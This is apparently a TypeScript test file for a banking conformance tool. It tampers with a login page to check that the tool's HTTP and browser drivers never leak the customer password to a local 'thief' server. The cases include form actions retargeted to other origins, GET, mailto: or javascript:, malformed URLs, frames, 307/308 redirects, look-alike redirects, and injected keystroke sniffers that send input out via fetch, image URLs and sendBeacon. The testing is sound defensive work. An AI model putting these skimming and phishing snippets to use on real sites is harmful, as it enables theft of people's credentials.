import { createServer as createHttp, type IncomingMessage, type ServerResponse } from 'node:http'
import { createServer as createHttps } from 'node:https'
import type { Context, Next } from 'koa'
import { expect } from 'vitest'
import { secureOptions } from '../../bank/directory/directory.ts'
import type { TargetDocument } from '../../engine/configuration/target.ts'
import type { Exchange } from '../../engine/wire/exchange.ts'
import { judgeBank } from '../../proof/run/judge-bank.ts'
import { executablePath, STEPS } from '../authorisation-drivers/opened.ts'
import { run as listening, type Running } from '../wire/servers.ts'
import { context, outcomes } from './bank.ts'
import type { Situation } from './situation.ts'

/** Pages that lead what the customer knows to somebody else. */

interface Thief {
  http: Running
  https: Running
  /** Everything that arrived. */
  took: string[]
}

async function thief(): Promise<Thief> {
  const took: string[] = []
  const take = (request: IncomingMessage, response: ServerResponse) => {
    took.push(`${request.method} ${request.url}`)
    request.on('data', (chunk) => took.push(String(chunk)))
    const form =
      '<form method="post"><input name="username"><input name="password" type="password">'
    request.on('end', () => {
      response.setHeader('content-type', 'text/html')
      response.end(
        `${form}<button type="submit" name="action" value="login">Log in</button></form>`,
      )
    })
  }
  const { directory } = await context()
  return {
    took,
    http: await listening(createHttp(take), 'http'),
    https: await listening(createHttps(secureOptions(directory.server), take), 'https'),
  }
}

interface Change {
  what: string
  change(html: string, thief: Thief): string
  /** The form itself still leads to the bank: a customer without a script gets there. */
  harmless?: true
}

const SNIFF = (send: string, from: string) =>
  `<script>addEventListener('input', ({ target }) => { const v = target.value; ${send.replace('HERE', from)} }, true)</script></head>`

/** What the login page becomes. */
const PAGES: Record<string, Change> = {
  itself: {
    what: 'is as it ever was',
    change: (html) => html,
    harmless: true,
  },
  'another-origin': {
    what: 'is sent to another origin over https',
    change: (html, { https }) => withForm(html, `method="post" action="${https.url}/take"`),
  },
  'plain-http': {
    what: 'is sent over plain http',
    change: (html, { http }) => withForm(html, `method="post" action="${http.url}/take"`),
  },
  get: {
    what: 'has the method GET, so that the password stands in the address',
    change: (html) => withForm(html, 'method="get" action=""'),
  },
  'no-method': {
    what: 'has no method, which is GET',
    change: (html) => withForm(html, ''),
  },
  'get-elsewhere': {
    what: 'has the method GET and another origin',
    change: (html, { https }) => withForm(html, `action="${https.url}/take"`),
  },
  'base-elsewhere': {
    what: 'names no action, and a base elsewhere',
    change: (html, { https }) =>
      withForm(html, 'method="post" action="take"').replace(
        '<head>',
        `<head><base href="${https.url}/">`,
      ),
  },
  'no-address': {
    what: 'is sent to http://[, which is not an address',
    change: (html) => withForm(html, 'method="post" action="http://["'),
  },
  script: {
    what: 'is sent to javascript:',
    change: (html) => withForm(html, 'method="post" action="javascript:alert(1)"'),
  },
  'button-elsewhere': {
    what: 'has a button with a formaction of another origin',
    change: (html, { https }) =>
      html.replace(/<button\b/g, `<button formaction="${https.url}/take" formmethod="post"`),
    harmless: true,
  },
  'button-get': {
    what: 'has a button with formmethod GET',
    change: (html) => html.replace(/<button\b/g, '<button formmethod="get"'),
    harmless: true,
  },
  'user-part': {
    what: 'names the bank as the user part of another origin',
    change: (html, { https }) =>
      withForm(html, `method="post" action="${https.url.replace('//', '//127.0.0.1:443@')}/take"`),
  },
  backslashes: {
    what: 'spells another origin with backslashes and a line feed',
    change: (html, { https }) =>
      withForm(html, `method="post" action="ht\ntps:\\\\${https.url.slice(8)}/take"`),
  },
  'no-scheme': {
    what: 'names another host without a scheme',
    change: (html, { https }) =>
      withForm(html, `method="post" action="${https.url.slice(6)}/take"`),
  },
  multipart: {
    what: 'is sent to another origin in parts, with a file',
    change: (html, { https }) =>
      withForm(
        html,
        `method="post" enctype="multipart/form-data" action="${https.url}/take"`,
      ).replace('</form>', '<input type="file" name="f"></form>'),
  },
  'plain-text': {
    what: 'is sent to another origin over plain http, as plain text',
    change: (html, { http }) =>
      withForm(html, `method="post" enctype="text/plain" action="${http.url}/take"`),
  },
  refresh: {
    what: 'stands on a page that refreshes to one of another origin that looks alike',
    change: (html, { https }) =>
      html.replace('<head>', `<head><meta http-equiv="refresh" content="0;url=${https.url}/">`),
    harmless: true,
  },
  frame: {
    what: 'is a frame of another origin',
    change: (html, { http }) =>
      html.replace(/<form\b[\s\S]*<\/form>/, `<iframe src="${http.url}/"></iframe>`),
  },
  'sniffed-in-base64': {
    what: 'has a script that sends what is typed to another origin, in base64',
    change: (html, { http }) =>
      html.replace('</head>', SNIFF("fetch('HERE/' + btoa(v))", http.url)),
    harmless: true,
  },
  'sniffed-in-hex': {
    what: 'has a script that sends what is typed to another origin, in hexadecimal',
    change: (html, { http }) =>
      html.replace(
        '</head>',
        SNIFF(
          "new Image().src = 'HERE/' + [...v].map((c) => c.charCodeAt(0).toString(16)).join('')",
          http.url,
        ),
      ),
    harmless: true,
  },
  'sniffed-in-a-beacon': {
    what: 'has a script that sends what is typed to another origin by a beacon',
    change: (html, { http }) =>
      html.replace('</head>', SNIFF("navigator.sendBeacon('HERE/', new Blob([v]))", http.url)),
    harmless: true,
  },
  'swapped-on-focus': {
    what: 'leaves for a page of another origin that looks alike as soon as somebody types',
    change: (html, { https }) =>
      html.replace(
        '</head>',
        `<script>addEventListener('focusin', () => location.replace('${https.url}/'))</script></head>`,
      ),
    harmless: true,
  },
  'mail-address': {
    what: 'is sent to mailto:',
    change: (html) => withForm(html, 'method="post" action="mailto:thief@example.com"'),
  },
}

function withForm(html: string, attributes: string): string {
  return html.replace(/<form\b[^>]*>/g, `<form ${attributes}>`)
}

function spelled(password: string): string[] {
  const bytes = Buffer.from(password)
  return [password, ...['base64', 'hex'].map((one) => bytes.toString(one as BufferEncoding))]
}

const isLogin = (body: unknown) => typeof body === 'string' && body.includes('name="password"')

type Act = (ctx: Context, next: Next, thief: Thief) => Promise<unknown>

const ACTS: Record<string, { what: string; act: Act; harmless?: true }> = {
  ...Object.fromEntries(
    Object.entries(PAGES).map(([id, { what, change, harmless }]) => [
      id,
      {
        what: `The login form ${what}.`,
        ...(harmless && { harmless }),
        act: async (ctx: Context, next: Next, away: Thief) => {
          await next()
          if (isLogin(ctx.body)) {
            ctx.remove('content-security-policy')
            ctx.body = change(String(ctx.body), away)
          }
        },
      },
    ]),
  ),
  ...Object.fromEntries(
    [307, 308].map((status) => [
      `posted-on-${status}`,
      {
        what: `The answer to the login is ${status} to another origin: the form is to be sent again there.`,
        act: (async (ctx, next, { https }) => {
          await next()
          if (ctx.method !== 'POST' || !String(ctx.state.body ?? '').includes('password=')) return
          ctx.status = status
          ctx.set('location', `${https.url}/take`)
        }) satisfies Act,
      },
    ]),
  ),
  'posted-on-in-plain': {
    what: 'The answer to the login is 307 to plain http at the same host.',
    act: async (ctx, next, { http }) => {
      await next()
      if (ctx.method !== 'POST' || !String(ctx.state.body ?? '').includes('password=')) return
      ctx.status = 307
      ctx.set('location', `${http.url}/take`)
    },
  },
  'page-elsewhere': {
    what: 'The authorisation endpoint redirects to a login page of another origin that looks alike.',
    act: async (ctx, next, { https }) => {
      await next()
      if (ctx.path !== '/authorize') return
      ctx.status = 302
      ctx.set('location', `${https.url}/login`)
    },
  },
}

const DRIVERS = ['http', 'browser'] as const

async function visited(
  driver: string,
  act: Act,
  { harmless = false, itself = false },
): Promise<void> {
  const away = await thief()
  const exchanges: Exchange[] = []
  let password = ''
  try {
    const { finished } = await (async () => {
      const finished = await judgeBank(
        await context(),
        [
          {
            id: 'thieving-pages',
            story: 'Somebody has changed the login page.',
            middleware: (ctx, next) => act(ctx, next, away),
          },
        ],
        {
          scope: { profile: 'full', only: ['AUTHZ-01/approved', 'AUTHZ-07/*'] },
          onExchange: (exchange) => exchanges.push(exchange),
          target(document: TargetDocument) {
            document.timeout = 5
            password = document.customers.first.credentials.password ?? ''
            if (driver !== 'browser') return
            document.authorisation = {
              driver: 'browser',
              steps: STEPS,
              executable: executablePath,
              patience: 15,
            }
          },
        },
      )
      return { finished }
    })()
    expect(password.length).toBeGreaterThan(3)
    expect(away.took.filter((text) => spelled(password).some((one) => text.includes(one)))).toEqual(
      [],
    )
    expect(exchanges.filter(({ request }) => request.url.includes(password))).toEqual([])
    expect(outcomes(finished, 'error')).toEqual([])
    const approved = outcomes(finished, 'pass').filter((one) => one.includes('AUTHZ-01/approved'))
    if (itself) expect(approved.length).toBe(1)
    if (harmless) return
    expect(approved).toEqual([])
  } finally {
    await Promise.all([away.http.close(), away.https.close()])
  }
}

export const situations: Situation[] = DRIVERS.flatMap((driver) =>
  Object.entries(ACTS).map(([id, { what, act, harmless }]) => ({
    id: `credentials/${driver}/${id}`,
    what: `${what} (driver ${driver})`,
    expected: harmless
      ? 'The password goes to nobody but the bank.'
      : 'The password goes nowhere; the visit stops and says why.',
    seconds: driver === 'browser' ? 240 : 120,
    megabytes: 200,
    ...(driver === 'browser' && { browser: true }),
    async run() {
      await visited(driver, act, { harmless, itself: id === 'itself' })
      return undefined
    },
  })),
)
